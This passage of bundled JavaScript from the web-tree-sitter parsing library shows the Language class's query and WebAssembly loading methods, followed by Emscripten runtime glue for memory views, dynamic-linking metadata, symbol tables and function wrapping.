         * Lookahead iterators can be useful for generating suggestions and improving
         * syntax error diagnostics. To get symbols valid in an `ERROR` node, use the
         * lookahead iterator on its first leaf node state. For `MISSING` nodes, a
         * lookahead iterator created on the previous non-extra leaf node may be
         * appropriate.
         */
        lookaheadIterator(stateId) {
          const address = C._ts_lookahead_iterator_new(this[0], stateId);
          if (address) return new LookaheadIterator(INTERNAL, address, this);
          return null;
        }
        /**
         * @deprecated since version 0.25.0, call `new` on a {@link Query} instead
         *
         * Create a new query from a string containing one or more S-expression
         * patterns.
         *
         * The query is associated with a particular language, and can only be run
         * on syntax nodes parsed with that language. References to Queries can be
         * shared between multiple threads.
         *
         * @link {@see https://tree-sitter.github.io/tree-sitter/using-parsers/queries}
         */
        query(source) {
          console.warn("Language.query is deprecated. Use new Query(language, source) instead.");
          return new Query(this, source);
        }
        /**
         * Load a language from a WebAssembly module.
         * The module can be provided as a path to a file or as a buffer.
         */
        static async load(input) {
          let bytes;
          if (input instanceof Uint8Array) {
            bytes = Promise.resolve(input);
          } else {
            if (globalThis.process?.versions.node) {
              const fs2 = await Promise.resolve(__nodeFsPromises);
              bytes = fs2.readFile(input);
            } else {
              bytes = fetch(input).then((response) => response.arrayBuffer().then((buffer) => {
                if (response.ok) {
                  return new Uint8Array(buffer);
                } else {
                  const body2 = new TextDecoder("utf-8").decode(buffer);
                  throw new Error(`Language.load failed with status ${response.status}.

${body2}`);
                }
              }));
            }
          }
          const mod = await C.loadWebAssemblyModule(await bytes, { loadAsync: true });
          const symbolNames = Object.keys(mod);
          const functionName = symbolNames.find((key) => LANGUAGE_FUNCTION_REGEX.test(key) && !key.includes("external_scanner_"));
          if (!functionName) {
            console.log(`Couldn't find language function in WASM file. Symbols:
${JSON.stringify(symbolNames, null, 2)}`);
            throw new Error("Language.load failed: no language function found in WASM file");
          }
          const languageAddress = mod[functionName]();
          return new _Language(INTERNAL, languageAddress);
        }
      };
      var Module2 = (() => {
        var _scriptName = getCurrentScriptUrl();
        return async function(moduleArg = {}) {
          var moduleRtn;
          var Module = moduleArg;
          var readyPromiseResolve, readyPromiseReject;
          var readyPromise = new Promise((resolve, reject) => {
            readyPromiseResolve = resolve;
            readyPromiseReject = reject;
          });
          var ENVIRONMENT_IS_WEB = typeof window == "object";
          var ENVIRONMENT_IS_WORKER = typeof importScripts == "function";
          var ENVIRONMENT_IS_NODE = typeof process == "object" && typeof process.versions == "object" && typeof process.versions.node == "string";
          var ENVIRONMENT_IS_SHELL = !ENVIRONMENT_IS_WEB && !ENVIRONMENT_IS_NODE && !ENVIRONMENT_IS_WORKER;
          if (ENVIRONMENT_IS_NODE) {
            const { createRequire: createRequire2 } = await Promise.resolve(__nodeModule);
            var require = createRequire2(getCurrentScriptUrl());
          }
          Module.currentQueryProgressCallback = null;
          Module.currentProgressCallback = null;
          Module.currentLogCallback = null;
          Module.currentParseCallback = null;
          var moduleOverrides = Object.assign({}, Module);
          var arguments_ = [];
          var thisProgram = "./this.program";
          var quit_ = /* @__PURE__ */ __name((status, toThrow) => {
            throw toThrow;
          }, "quit_");
          var scriptDirectory = "";
          function locateFile(path2) {
            if (Module["locateFile"]) {
              return Module["locateFile"](path2, scriptDirectory);
            }
            return scriptDirectory + path2;
          }
          __name(locateFile, "locateFile");
          var readAsync, readBinary;
          if (ENVIRONMENT_IS_NODE) {
            var fs = require("fs");
            var nodePath = require("path");
            scriptDirectory = require("url").fileURLToPath(new URL("./", getCurrentScriptUrl()));
            readBinary = /* @__PURE__ */ __name((filename) => {
              filename = isFileURI(filename) ? new URL(filename) : nodePath.normalize(filename);
              var ret = fs.readFileSync(filename);
              return ret;
            }, "readBinary");
            readAsync = /* @__PURE__ */ __name((filename, binary2 = true) => {
              filename = isFileURI(filename) ? new URL(filename) : nodePath.normalize(filename);
              return new Promise((resolve, reject) => {
                fs.readFile(filename, binary2 ? void 0 : "utf8", (err2, data) => {
                  if (err2) reject(err2);
                  else resolve(binary2 ? data.buffer : data);
                });
              });
            }, "readAsync");
            if (!Module["thisProgram"] && process.argv.length > 1) {
              thisProgram = process.argv[1].replace(/\\/g, "/");
            }
            arguments_ = process.argv.slice(2);
            quit_ = /* @__PURE__ */ __name((status, toThrow) => {
              process.exitCode = status;
              throw toThrow;
            }, "quit_");
          } else if (ENVIRONMENT_IS_WEB || ENVIRONMENT_IS_WORKER) {
            if (ENVIRONMENT_IS_WORKER) {
              scriptDirectory = self.location.href;
            } else if (typeof document != "undefined" && document.currentScript) {
              scriptDirectory = document.currentScript.src;
            }
            if (_scriptName) {
              scriptDirectory = _scriptName;
            }
            if (scriptDirectory.startsWith("blob:")) {
              scriptDirectory = "";
            } else {
              scriptDirectory = scriptDirectory.substr(0, scriptDirectory.replace(/[?#].*/, "").lastIndexOf("/") + 1);
            }
            {
              if (ENVIRONMENT_IS_WORKER) {
                readBinary = /* @__PURE__ */ __name((url) => {
                  var xhr = new XMLHttpRequest();
                  xhr.open("GET", url, false);
                  xhr.responseType = "arraybuffer";
                  xhr.send(null);
                  return new Uint8Array(
                    /** @type{!ArrayBuffer} */
                    xhr.response
                  );
                }, "readBinary");
              }
              readAsync = /* @__PURE__ */ __name((url) => {
                if (isFileURI(url)) {
                  return new Promise((reject, resolve) => {
                    var xhr = new XMLHttpRequest();
                    xhr.open("GET", url, true);
                    xhr.responseType = "arraybuffer";
                    xhr.onload = () => {
                      if (xhr.status == 200 || xhr.status == 0 && xhr.response) {
                        resolve(xhr.response);
                      }
                      reject(xhr.status);
                    };
                    xhr.onerror = reject;
                    xhr.send(null);
                  });
                }
                return fetch(url, {
                  credentials: "same-origin"
                }).then((response) => {
                  if (response.ok) {
                    return response.arrayBuffer();
                  }
                  return Promise.reject(new Error(response.status + " : " + response.url));
                });
              }, "readAsync");
            }
          } else {
          }
          var out = Module["print"] || console.log.bind(console);
          var err = Module["printErr"] || console.error.bind(console);
          Object.assign(Module, moduleOverrides);
          moduleOverrides = null;
          if (Module["arguments"]) arguments_ = Module["arguments"];
          if (Module["thisProgram"]) thisProgram = Module["thisProgram"];
          if (Module["quit"]) quit_ = Module["quit"];
          var dynamicLibraries = Module["dynamicLibraries"] || [];
          var wasmBinary;
          if (Module["wasmBinary"]) wasmBinary = Module["wasmBinary"];
          var wasmMemory;
          var ABORT = false;
          var EXITSTATUS;
          function assert(condition, text) {
            if (!condition) {
              abort(text);
            }
          }
          __name(assert, "assert");
          var HEAP, HEAP8, HEAPU8, HEAP16, HEAPU16, HEAP32, HEAPU32, HEAPF32, HEAPF64;
          var HEAP_DATA_VIEW;
          function updateMemoryViews() {
            var b = wasmMemory.buffer;
            Module["HEAP_DATA_VIEW"] = HEAP_DATA_VIEW = new DataView(b);
            Module["HEAP8"] = HEAP8 = new Int8Array(b);
            Module["HEAP16"] = HEAP16 = new Int16Array(b);
            Module["HEAPU8"] = HEAPU8 = new Uint8Array(b);
            Module["HEAPU16"] = HEAPU16 = new Uint16Array(b);
            Module["HEAP32"] = HEAP32 = new Int32Array(b);
            Module["HEAPU32"] = HEAPU32 = new Uint32Array(b);
            Module["HEAPF32"] = HEAPF32 = new Float32Array(b);
            Module["HEAPF64"] = HEAPF64 = new Float64Array(b);
          }
          __name(updateMemoryViews, "updateMemoryViews");
          if (Module["wasmMemory"]) {
            wasmMemory = Module["wasmMemory"];
          } else {
            var INITIAL_MEMORY = Module["INITIAL_MEMORY"] || 33554432;
            wasmMemory = new WebAssembly.Memory({
              "initial": INITIAL_MEMORY / 65536,
              // In theory we should not need to emit the maximum if we want "unlimited"
              // or 4GB of memory, but VMs error on that atm, see
              // https://github.com/emscripten-core/emscripten/issues/14130
              // And in the pthreads case we definitely need to emit a maximum. So
              // always emit one.
              "maximum": 2147483648 / 65536
            });
          }
          updateMemoryViews();
          var __ATPRERUN__ = [];
          var __ATINIT__ = [];
          var __ATMAIN__ = [];
          var __ATEXIT__ = [];
          var __ATPOSTRUN__ = [];
          var __RELOC_FUNCS__ = [];
          var runtimeInitialized = false;
          function preRun() {
            if (Module["preRun"]) {
              if (typeof Module["preRun"] == "function") Module["preRun"] = [Module["preRun"]];
              while (Module["preRun"].length) {
                addOnPreRun(Module["preRun"].shift());
              }
            }
            callRuntimeCallbacks(__ATPRERUN__);
          }
          __name(preRun, "preRun");
          function initRuntime() {
            runtimeInitialized = true;
            callRuntimeCallbacks(__RELOC_FUNCS__);
            callRuntimeCallbacks(__ATINIT__);
          }
          __name(initRuntime, "initRuntime");
          function preMain() {
            callRuntimeCallbacks(__ATMAIN__);
          }
          __name(preMain, "preMain");
          function postRun() {
            if (Module["postRun"]) {
              if (typeof Module["postRun"] == "function") Module["postRun"] = [Module["postRun"]];
              while (Module["postRun"].length) {
                addOnPostRun(Module["postRun"].shift());
              }
            }
            callRuntimeCallbacks(__ATPOSTRUN__);
          }
          __name(postRun, "postRun");
          function addOnPreRun(cb) {
            __ATPRERUN__.unshift(cb);
          }
          __name(addOnPreRun, "addOnPreRun");
          function addOnInit(cb) {
            __ATINIT__.unshift(cb);
          }
          __name(addOnInit, "addOnInit");
          function addOnPreMain(cb) {
            __ATMAIN__.unshift(cb);
          }
          __name(addOnPreMain, "addOnPreMain");
          function addOnExit(cb) {
          }
          __name(addOnExit, "addOnExit");
          function addOnPostRun(cb) {
            __ATPOSTRUN__.unshift(cb);
          }
          __name(addOnPostRun, "addOnPostRun");
          var runDependencies = 0;
          var runDependencyWatcher = null;
          var dependenciesFulfilled = null;
          function getUniqueRunDependency(id) {
            return id;
          }
          __name(getUniqueRunDependency, "getUniqueRunDependency");
          function addRunDependency(id) {
            runDependencies++;
            Module["monitorRunDependencies"]?.(runDependencies);
          }
          __name(addRunDependency, "addRunDependency");
          function removeRunDependency(id) {
            runDependencies--;
            Module["monitorRunDependencies"]?.(runDependencies);
            if (runDependencies == 0) {
              if (runDependencyWatcher !== null) {
                clearInterval(runDependencyWatcher);
                runDependencyWatcher = null;
              }
              if (dependenciesFulfilled) {
                var callback = dependenciesFulfilled;
                dependenciesFulfilled = null;
                callback();
              }
            }
          }
          __name(removeRunDependency, "removeRunDependency");
          function abort(what) {
            Module["onAbort"]?.(what);
            what = "Aborted(" + what + ")";
            err(what);
            ABORT = true;
            EXITSTATUS = 1;
            what += ". Build with -sASSERTIONS for more info.";
            var e = new WebAssembly.RuntimeError(what);
            readyPromiseReject(e);
            throw e;
          }
          __name(abort, "abort");
          var dataURIPrefix = "data:application/octet-stream;base64,";
          var isDataURI = /* @__PURE__ */ __name((filename) => filename.startsWith(dataURIPrefix), "isDataURI");
          var isFileURI = /* @__PURE__ */ __name((filename) => filename.startsWith("file://"), "isFileURI");
          function findWasmBinary() {
            if (Module["locateFile"]) {
              var f = "tree-sitter.wasm";
              if (!isDataURI(f)) {
                return locateFile(f);
              }
              return f;
            }
            return new URL("tree-sitter.wasm", getCurrentScriptUrl()).href;
          }
          __name(findWasmBinary, "findWasmBinary");
          var wasmBinaryFile;
          function getBinarySync(file) {
            if (file == wasmBinaryFile && wasmBinary) {
              return new Uint8Array(wasmBinary);
            }
            if (readBinary) {
              return readBinary(file);
            }
            throw "both async and sync fetching of the wasm failed";
          }
          __name(getBinarySync, "getBinarySync");
          function getBinaryPromise(binaryFile) {
            if (!wasmBinary) {
              return readAsync(binaryFile).then(
                (response) => new Uint8Array(
                  /** @type{!ArrayBuffer} */
                  response
                ),
                // Fall back to getBinarySync if readAsync fails
                () => getBinarySync(binaryFile)
              );
            }
            return Promise.resolve().then(() => getBinarySync(binaryFile));
          }
          __name(getBinaryPromise, "getBinaryPromise");
          function instantiateArrayBuffer(binaryFile, imports, receiver) {
            return getBinaryPromise(binaryFile).then((binary2) => WebAssembly.instantiate(binary2, imports)).then(receiver, (reason) => {
              err(`failed to asynchronously prepare wasm: ${reason}`);
              abort(reason);
            });
          }
          __name(instantiateArrayBuffer, "instantiateArrayBuffer");
          function instantiateAsync(binary2, binaryFile, imports, callback) {
            if (!binary2 && typeof WebAssembly.instantiateStreaming == "function" && !isDataURI(binaryFile) && // Don't use streaming for file:// delivered objects in a webview, fetch them synchronously.
            !isFileURI(binaryFile) && // Avoid instantiateStreaming() on Node.js environment for now, as while
            // Node.js v18.1.0 implements it, it does not have a full fetch()
            // implementation yet.
            // Reference:
            //   https://github.com/emscripten-core/emscripten/pull/16917
            !ENVIRONMENT_IS_NODE && typeof fetch == "function") {
              return fetch(binaryFile, {
                credentials: "same-origin"
              }).then((response) => {
                var result = WebAssembly.instantiateStreaming(response, imports);
                return result.then(callback, function(reason) {
                  err(`wasm streaming compile failed: ${reason}`);
                  err("falling back to ArrayBuffer instantiation");
                  return instantiateArrayBuffer(binaryFile, imports, callback);
                });
              });
            }
            return instantiateArrayBuffer(binaryFile, imports, callback);
          }
          __name(instantiateAsync, "instantiateAsync");
          function getWasmImports() {
            return {
              "env": wasmImports,
              "wasi_snapshot_preview1": wasmImports,
              "GOT.mem": new Proxy(wasmImports, GOTHandler),
              "GOT.func": new Proxy(wasmImports, GOTHandler)
            };
          }
          __name(getWasmImports, "getWasmImports");
          function createWasm() {
            var info2 = getWasmImports();
            function receiveInstance(instance2, module22) {
              wasmExports = instance2.exports;
              wasmExports = relocateExports(wasmExports, 1024);
              var metadata2 = getDylinkMetadata(module22);
              if (metadata2.neededDynlibs) {
                dynamicLibraries = metadata2.neededDynlibs.concat(dynamicLibraries);
              }
              mergeLibSymbols(wasmExports, "main");
              LDSO.init();
              loadDylibs();
              addOnInit(wasmExports["__wasm_call_ctors"]);
              __RELOC_FUNCS__.push(wasmExports["__wasm_apply_data_relocs"]);
              removeRunDependency("wasm-instantiate");
              return wasmExports;
            }
            __name(receiveInstance, "receiveInstance");
            addRunDependency("wasm-instantiate");
            function receiveInstantiationResult(result) {
              receiveInstance(result["instance"], result["module"]);
            }
            __name(receiveInstantiationResult, "receiveInstantiationResult");
            if (Module["instantiateWasm"]) {
              try {
                return Module["instantiateWasm"](info2, receiveInstance);
              } catch (e) {
                err(`Module.instantiateWasm callback failed with error: ${e}`);
                readyPromiseReject(e);
              }
            }
            if (!wasmBinaryFile) wasmBinaryFile = findWasmBinary();
            instantiateAsync(wasmBinary, wasmBinaryFile, info2, receiveInstantiationResult).catch(readyPromiseReject);
            return {};
          }
          __name(createWasm, "createWasm");
          var tempDouble;
          var tempI64;
          var ASM_CONSTS = {};
          function ExitStatus(status) {
            this.name = "ExitStatus";
            this.message = `Program terminated with exit(${status})`;
            this.status = status;
          }
          __name(ExitStatus, "ExitStatus");
          var GOT = {};
          var currentModuleWeakSymbols = /* @__PURE__ */ new Set([]);
          var GOTHandler = {
            get(obj, symName) {
              var rtn = GOT[symName];
              if (!rtn) {
                rtn = GOT[symName] = new WebAssembly.Global({
                  "value": "i32",
                  "mutable": true
                });
              }
              if (!currentModuleWeakSymbols.has(symName)) {
                rtn.required = true;
              }
              return rtn;
            }
          };
          var LE_HEAP_LOAD_F32 = /* @__PURE__ */ __name((byteOffset) => HEAP_DATA_VIEW.getFloat32(byteOffset, true), "LE_HEAP_LOAD_F32");
          var LE_HEAP_LOAD_F64 = /* @__PURE__ */ __name((byteOffset) => HEAP_DATA_VIEW.getFloat64(byteOffset, true), "LE_HEAP_LOAD_F64");
          var LE_HEAP_LOAD_I16 = /* @__PURE__ */ __name((byteOffset) => HEAP_DATA_VIEW.getInt16(byteOffset, true), "LE_HEAP_LOAD_I16");
          var LE_HEAP_LOAD_I32 = /* @__PURE__ */ __name((byteOffset) => HEAP_DATA_VIEW.getInt32(byteOffset, true), "LE_HEAP_LOAD_I32");
          var LE_HEAP_LOAD_U16 = /* @__PURE__ */ __name((byteOffset) => HEAP_DATA_VIEW.getUint16(byteOffset, true), "LE_HEAP_LOAD_U16");
          var LE_HEAP_LOAD_U32 = /* @__PURE__ */ __name((byteOffset) => HEAP_DATA_VIEW.getUint32(byteOffset, true), "LE_HEAP_LOAD_U32");
          var LE_HEAP_STORE_F32 = /* @__PURE__ */ __name((byteOffset, value) => HEAP_DATA_VIEW.setFloat32(byteOffset, value, true), "LE_HEAP_STORE_F32");
          var LE_HEAP_STORE_F64 = /* @__PURE__ */ __name((byteOffset, value) => HEAP_DATA_VIEW.setFloat64(byteOffset, value, true), "LE_HEAP_STORE_F64");
          var LE_HEAP_STORE_I16 = /* @__PURE__ */ __name((byteOffset, value) => HEAP_DATA_VIEW.setInt16(byteOffset, value, true), "LE_HEAP_STORE_I16");
          var LE_HEAP_STORE_I32 = /* @__PURE__ */ __name((byteOffset, value) => HEAP_DATA_VIEW.setInt32(byteOffset, value, true), "LE_HEAP_STORE_I32");
          var LE_HEAP_STORE_U16 = /* @__PURE__ */ __name((byteOffset, value) => HEAP_DATA_VIEW.setUint16(byteOffset, value, true), "LE_HEAP_STORE_U16");
          var LE_HEAP_STORE_U32 = /* @__PURE__ */ __name((byteOffset, value) => HEAP_DATA_VIEW.setUint32(byteOffset, value, true), "LE_HEAP_STORE_U32");
          var callRuntimeCallbacks = /* @__PURE__ */ __name((callbacks) => {
            while (callbacks.length > 0) {
              callbacks.shift()(Module);
            }
          }, "callRuntimeCallbacks");
          var UTF8Decoder = typeof TextDecoder != "undefined" ? new TextDecoder() : void 0;
          var UTF8ArrayToString = /* @__PURE__ */ __name((heapOrArray, idx, maxBytesToRead) => {
            var endIdx = idx + maxBytesToRead;
            var endPtr = idx;
            while (heapOrArray[endPtr] && !(endPtr >= endIdx)) ++endPtr;
            if (endPtr - idx > 16 && heapOrArray.buffer && UTF8Decoder) {
              return UTF8Decoder.decode(heapOrArray.subarray(idx, endPtr));
            }
            var str = "";
            while (idx < endPtr) {
              var u0 = heapOrArray[idx++];
              if (!(u0 & 128)) {
                str += String.fromCharCode(u0);
                continue;
              }
              var u1 = heapOrArray[idx++] & 63;
              if ((u0 & 224) == 192) {
                str += String.fromCharCode((u0 & 31) << 6 | u1);
                continue;
              }
              var u2 = heapOrArray[idx++] & 63;
              if ((u0 & 240) == 224) {
                u0 = (u0 & 15) << 12 | u1 << 6 | u2;
              } else {
                u0 = (u0 & 7) << 18 | u1 << 12 | u2 << 6 | heapOrArray[idx++] & 63;
              }
              if (u0 < 65536) {
                str += String.fromCharCode(u0);
              } else {
                var ch = u0 - 65536;
                str += String.fromCharCode(55296 | ch >> 10, 56320 | ch & 1023);
              }
            }
            return str;
          }, "UTF8ArrayToString");
          var getDylinkMetadata = /* @__PURE__ */ __name((binary2) => {
            var offset = 0;
            var end = 0;
            function getU8() {
              return binary2[offset++];
            }
            __name(getU8, "getU8");
            function getLEB() {
              var ret = 0;
              var mul = 1;
              while (1) {
                var byte = binary2[offset++];
                ret += (byte & 127) * mul;
                mul *= 128;
                if (!(byte & 128)) break;
              }
              return ret;
            }
            __name(getLEB, "getLEB");
            function getString() {
              var len = getLEB();
              offset += len;
              return UTF8ArrayToString(binary2, offset - len, len);
            }
            __name(getString, "getString");
            function failIf(condition, message) {
              if (condition) throw new Error(message);
            }
            __name(failIf, "failIf");
            var name2 = "dylink.0";
            if (binary2 instanceof WebAssembly.Module) {
              var dylinkSection = WebAssembly.Module.customSections(binary2, name2);
              if (dylinkSection.length === 0) {
                name2 = "dylink";
                dylinkSection = WebAssembly.Module.customSections(binary2, name2);
              }
              failIf(dylinkSection.length === 0, "need dylink section");
              binary2 = new Uint8Array(dylinkSection[0]);
              end = binary2.length;
            } else {
              var int32View = new Uint32Array(new Uint8Array(binary2.subarray(0, 24)).buffer);
              var magicNumberFound = int32View[0] == 1836278016 || int32View[0] == 6386541;
              failIf(!magicNumberFound, "need to see wasm magic number");
              failIf(binary2[8] !== 0, "need the dylink section to be first");
              offset = 9;
              var section_size = getLEB();
              end = offset + section_size;
              name2 = getString();
            }
            var customSection = {
              neededDynlibs: [],
              tlsExports: /* @__PURE__ */ new Set(),
              weakImports: /* @__PURE__ */ new Set()
            };
            if (name2 == "dylink") {
              customSection.memorySize = getLEB();
              customSection.memoryAlign = getLEB();
              customSection.tableSize = getLEB();
              customSection.tableAlign = getLEB();
              var neededDynlibsCount = getLEB();
              for (var i2 = 0; i2 < neededDynlibsCount; ++i2) {
                var libname = getString();
                customSection.neededDynlibs.push(libname);
              }
            } else {
              failIf(name2 !== "dylink.0");
              var WASM_DYLINK_MEM_INFO = 1;
              var WASM_DYLINK_NEEDED = 2;
              var WASM_DYLINK_EXPORT_INFO = 3;
              var WASM_DYLINK_IMPORT_INFO = 4;
              var WASM_SYMBOL_TLS = 256;
              var WASM_SYMBOL_BINDING_MASK = 3;
              var WASM_SYMBOL_BINDING_WEAK = 1;
              while (offset < end) {
                var subsectionType = getU8();
                var subsectionSize = getLEB();
                if (subsectionType === WASM_DYLINK_MEM_INFO) {
                  customSection.memorySize = getLEB();
                  customSection.memoryAlign = getLEB();
                  customSection.tableSize = getLEB();
                  customSection.tableAlign = getLEB();
                } else if (subsectionType === WASM_DYLINK_NEEDED) {
                  var neededDynlibsCount = getLEB();
                  for (var i2 = 0; i2 < neededDynlibsCount; ++i2) {
                    libname = getString();
                    customSection.neededDynlibs.push(libname);
                  }
                } else if (subsectionType === WASM_DYLINK_EXPORT_INFO) {
                  var count = getLEB();
                  while (count--) {
                    var symname = getString();
                    var flags2 = getLEB();
                    if (flags2 & WASM_SYMBOL_TLS) {
                      customSection.tlsExports.add(symname);
                    }
                  }
                } else if (subsectionType === WASM_DYLINK_IMPORT_INFO) {
                  var count = getLEB();
                  while (count--) {
                    var modname = getString();
                    var symname = getString();
                    var flags2 = getLEB();
                    if ((flags2 & WASM_SYMBOL_BINDING_MASK) == WASM_SYMBOL_BINDING_WEAK) {
                      customSection.weakImports.add(symname);
                    }
                  }
                } else {
                  offset += subsectionSize;
                }
              }
            }
            return customSection;
          }, "getDylinkMetadata");
          function getValue(ptr, type = "i8") {
            if (type.endsWith("*")) type = "*";
            switch (type) {
              case "i1":
                return HEAP8[ptr];
              case "i8":
                return HEAP8[ptr];
              case "i16":
                return LE_HEAP_LOAD_I16((ptr >> 1) * 2);
              case "i32":
                return LE_HEAP_LOAD_I32((ptr >> 2) * 4);
              case "i64":
                abort("to do getValue(i64) use WASM_BIGINT");
              case "float":
                return LE_HEAP_LOAD_F32((ptr >> 2) * 4);
              case "double":
                return LE_HEAP_LOAD_F64((ptr >> 3) * 8);
              case "*":
                return LE_HEAP_LOAD_U32((ptr >> 2) * 4);
              default:
                abort(`invalid type for getValue: ${type}`);
            }
          }
          __name(getValue, "getValue");
          var newDSO = /* @__PURE__ */ __name((name2, handle2, syms) => {
            var dso = {
              refcount: Infinity,
              name: name2,
              exports: syms,
              global: true
            };
            LDSO.loadedLibsByName[name2] = dso;
            if (handle2 != void 0) {
              LDSO.loadedLibsByHandle[handle2] = dso;
            }
            return dso;
          }, "newDSO");
          var LDSO = {
            loadedLibsByName: {},
            loadedLibsByHandle: {},
            init() {
              newDSO("__main__", 0, wasmImports);
            }
          };
          var ___heap_base = 78240;
          var zeroMemory = /* @__PURE__ */ __name((address, size) => {
            HEAPU8.fill(0, address, address + size);
            return address;
          }, "zeroMemory");
          var alignMemory = /* @__PURE__ */ __name((size, alignment) => Math.ceil(size / alignment) * alignment, "alignMemory");
          var getMemory = /* @__PURE__ */ __name((size) => {
            if (runtimeInitialized) {
              return zeroMemory(_malloc(size), size);
            }
            var ret = ___heap_base;
            var end = ret + alignMemory(size, 16);
            ___heap_base = end;
            GOT["__heap_base"].value = end;
            return ret;
          }, "getMemory");
          var isInternalSym = /* @__PURE__ */ __name((symName) => ["__cpp_exception", "__c_longjmp", "__wasm_apply_data_relocs", "__dso_handle", "__tls_size", "__tls_align", "__set_stack_limits", "_emscripten_tls_init", "__wasm_init_tls", "__wasm_call_ctors", "__start_em_asm", "__stop_em_asm", "__start_em_js", "__stop_em_js"].includes(symName) || symName.startsWith("__em_js__"), "isInternalSym");
          var uleb128Encode = /* @__PURE__ */ __name((n, target) => {
            if (n < 128) {
              target.push(n);
            } else {
              target.push(n % 128 | 128, n >> 7);
            }
          }, "uleb128Encode");
          var sigToWasmTypes = /* @__PURE__ */ __name((sig) => {
            var typeNames = {
              "i": "i32",
              "j": "i64",
              "f": "f32",
              "d": "f64",
              "e": "externref",
              "p": "i32"
            };
            var type = {
              parameters: [],
              results: sig[0] == "v" ? [] : [typeNames[sig[0]]]
            };
            for (var i2 = 1; i2 < sig.length; ++i2) {
              type.parameters.push(typeNames[sig[i2]]);
            }
            return type;
          }, "sigToWasmTypes");
          var generateFuncType = /* @__PURE__ */ __name((sig, target) => {
            var sigRet = sig.slice(0, 1);
            var sigParam = sig.slice(1);
            var typeCodes = {
              "i": 127,
              // i32
              "p": 127,
              // i32
              "j": 126,
              // i64
              "f": 125,
              // f32
              "d": 124,
              // f64
              "e": 111
            };
            target.push(96);
            uleb128Encode(sigParam.length, target);
            for (var i2 = 0; i2 < sigParam.length; ++i2) {
              target.push(typeCodes[sigParam[i2]]);
            }
            if (sigRet == "v") {
              target.push(0);
            } else {
              target.push(1, typeCodes[sigRet]);
            }
          }, "generateFuncType");
          var convertJsFunctionToWasm = /* @__PURE__ */ __name((func2, sig) => {
            if (typeof WebAssembly.Function == "function") {
              return new WebAssembly.Function(sigToWasmTypes(sig), func2);
            }
            var typeSectionBody = [1];
            generateFuncType(sig, typeSectionBody);
            var bytes = [
              0,
              97,
              115,
              109,
              // magic ("\0asm")
              1,
              0,
              0,
              0,
              // version: 1
              1
            ];
            uleb128Encode(typeSectionBody.length, bytes);
            bytes.push(...typeSectionBody);
            bytes.push(
              2,
              7,
              // import section
              // (import "e" "f" (func 0 (type 0)))
              1,
              1,
              101,
              1,
              102,
              0,
              0,
              7,
              5,
              // export section
              // (export "f" (func 0 (type 0)))
              1,
              1,
              102,
              0,
              0
            );
            var module22 = new WebAssembly.Module(new Uint8Array(bytes));
            var instance2 = new WebAssembly.Instance(module22, {
              "e": {
                "f": func2
              }
            });
            var wrappedFunc = instance2.exports["f"];
            return wrappedFunc;
          }, "convertJsFunctionToWasm");
          var wasmTableMirror = [];
          var wasmTable = new WebAssembly.Table({
            "initial": 31,
            "element": "anyfunc"
          });
          var getWasmTableEntry = /* @__PURE__ */ __name((funcPtr) => {
            var func2 = wasmTableMirror[funcPtr];
            if (!func2) {
              if (funcPtr >= wasmTableMirror.length) wasmTableMirror.length = funcPtr + 1;
              wasmTableMirror[funcPtr] = func2 = wasmTable.get(funcPtr);
            }
            return func2;
          }, "getWasmTableEntry");
          var updateTableMap = /* @__PURE__ */ __name((offset, count) => {
            if (functionsInTableMap) {
              for (var i2 = offset; i2 < offset + count; i2++) {
                var item = getWasmTableEntry(i2);
                if (item) {
                  functionsInTableMap.set(item, i2);
                }
              }
            }
          }, "updateTableMap");
          var functionsInTableMap;
          var getFunctionAddress = /* @__PURE__ */ __name((func2) => {
            if (!functionsInTableMap) {
              functionsInTableMap = /* @__PURE__ */ new WeakMap();
              updateTableMap(0, wasmTable.length);
            }
            return functionsInTableMap.get(func2) || 0;
          }, "getFunctionAddress");
          var freeTableIndexes = [];
          var getEmptyTableSlot = /* @__PURE__ */ __name(() => {
            if (freeTableIndexes.length) {
              return freeTableIndexes.pop();
            }
            try {
              wasmTable.grow(1);
            } catch (err2) {
              if (!(err2 instanceof RangeError)) {
                throw err2;
              }
              throw "Unable to grow wasm table. Set ALLOW_TABLE_GROWTH.";
            }
            return wasmTable.length - 1;
          }, "getEmptyTableSlot");
          var setWasmTableEntry = /* @__PURE__ */ __name((idx, func2) => {
            wasmTable.set(idx, func2);
            wasmTableMirror[idx] = wasmTable.get(idx);
          }, "setWasmTableEntry");
          var addFunction = /* @__PURE__ */ __name((func2, sig) => {
            var rtn = getFunctionAddress(func2);
            if (rtn) {
              return rtn;
            }
            var ret = getEmptyTableSlot();
            try {
              setWasmTableEntry(ret, func2);
            } catch (err2) {
              if (!(err2 instanceof TypeError)) {
                throw err2;
              }
              var wrapped = convertJsFunctionToWasm(func2, sig);
              setWasmTableEntry(ret, wrapped);
            }
            functionsInTableMap.set(func2, ret);
            return ret;
          }, "addFunction");
          var updateGOT = /* @__PURE__ */ __name((exports3, replace) => {
            for (var symName in exports3) {
              if (isInternalSym(symName)) {
                continue;
              }
              var value = exports3[symName];
              if (symName.startsWith("orig$")) {
                symName = symName.split("$")[1];
                replace = true;
              }
              GOT[symName] ||= new WebAssembly.Global({
                "value": "i32",
                "mutable": true
              });
              if (replace || GOT[symName].value == 0) {
                if (typeof value == "function") {
                  GOT[symName].value = addFunction(value);
                } else if (typeof value == "number") {
                  GOT[symName].value = value;
                } else {
                  err(`unhandled export type for '${symName}': ${typeof value}`);
                }
              }
            }
          }, "updateGOT");
          var relocateExports = /* @__PURE__ */ __name((exports3, memoryBase2, replace) => {
            var relocated = {};
            for (var e in exports3) {
              var value = exports3[e];
              if (typeof value == "object") {
                value = value.value;
              }
              if (typeof value == "number") {
                value += memoryBase2;
              }
              relocated[e] = value;
            }
            updateGOT(relocated, replace);
            return relocated;
          }, "relocateExports");
          var isSymbolDefined = /* @__PURE__ */ __name((symName) => {
            var existing = wasmImports[symName];
            if (!existing || existing.stub) {
              return false;
            }
            return true;
          }, "isSymbolDefined");
          var dynCallLegacy = /* @__PURE__ */ __name((sig, ptr, args2) => {
            sig = sig.replace(/p/g, "i");
            var f = Module["dynCall_" + sig];
            return f(ptr, ...args2);
          }, "dynCallLegacy");
          var dynCall = /* @__PURE__ */ __name((sig, ptr, args2 = []) => {
            if (sig.includes("j")) {
              return dynCallLegacy(sig, ptr, args2);
            }
            var rtn = getWasmTableEntry(ptr)(...args2);
            return rtn;
          }, "dynCall");
          var stackSave = /* @__PURE__ */ __name(() => _emscripten_stack_get_current(), "stackSave");
          var stackRestore = /* @__PURE__ */ __name((val) => __emscripten_stack_restore(val), "stackRestore");
